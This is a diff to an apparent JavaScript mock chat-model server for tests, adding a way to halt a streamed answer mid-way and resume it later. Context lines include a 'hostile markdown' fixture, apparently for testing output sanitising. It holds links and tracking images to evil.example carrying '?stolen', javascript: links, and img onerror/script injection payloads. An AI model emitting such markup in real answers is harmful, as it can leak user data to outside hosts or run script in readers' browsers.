@@ -32,7 +32,7 @@ function answer({ messages, tools = [], tool_choice }) {
       if (tool) return { name: tool.function.name, arguments: JSON.stringify(make(match)) };
     }
   }
-  if (/slowly/i.test(asked)) return { words: Array.from({ length: 40 }, (_, n) => `word${n}`).join(' '), pause: 150 };
+  if (/slowly/i.test(asked)) return { words: Array.from({ length: 40 }, (_, n) => `word${n}`).join(' '), halts: true };
   if (/hostile markdown/i.test(asked)) {
     const words = '## A title\n\n- **bold** words\n- [read more](https://evil.example/x?stolen)\n- [run me](javascript:alert(1))\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n![spy](https://evil.example/spy.png?stolen)\n\n<img src=https://evil.example/raw.png onerror=alert(1)><script>alert(2)</script>\n\nhttps://evil.example/plain';
     return { words };
@@ -41,8 +41,22 @@ function answer({ messages, tools = [], tool_choice }) {
   return { words: `You said: ${asked}` };
 }
 
-export async function startModel() {
+/** Words of an answer that halts before it does. */
+const BEFORE_HALT = 10;
+const PACE_MS = 150;
+
+/**
+ * `asked`: what it was asked; `resume`: answers that halted go on to their end. What a test does in the middle of an answer
+ * it does while the answer halts, however long that takes. `paced`: such answers come word by word instead.
+ */
+export async function startModel({ paced = false } = {}) {
   const asked = [];
+  const halted = new Set();
+  const halt = (response) =>
+    new Promise((resolve) => {
+      halted.add(resolve);
+      response.on('close', resolve);
+    });
   const server = createServer(async (request, response) => {
     if (request.method === 'GET') {
       response.setHeader('content-type', 'application/json');
@@ -68,15 +82,24 @@ export async function startModel() {
     tell({ role: 'assistant' });
     if (call) tell({ tool_calls: [{ index: 0, ...call }] });
     else
-      for (const word of said.words.split(/(?<= )/)) {
+      for (const [place, word] of said.words.split(/(?<= )/).entries()) {
         if (response.destroyed) return;
         tell({ content: word });
-        if (said.pause) await sleep(said.pause);
+        if (said.halts && paced) await sleep(PACE_MS);
+        else if (said.halts && place === BEFORE_HALT) await halt(response);
       }
     tell({}, finish);
     response.write(`data: ${JSON.stringify({ ...base, choices: [], usage })}\n\n`);
     response.end('data: [DONE]\n\n');
   });
   await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { url: `http://127.0.0.1:${server.address().port}/v1`, asked, close: () => server.closeAllConnections?.() ?? server.close() };
+  const resume = () => {
+    for (const goOn of halted) goOn();
+    halted.clear();
+  };
+  const close = () => {
+    server.closeAllConnections();
+    server.close();
+  };
+  return { url: `http://127.0.0.1:${server.address().port}/v1`, asked, resume, close };
 }
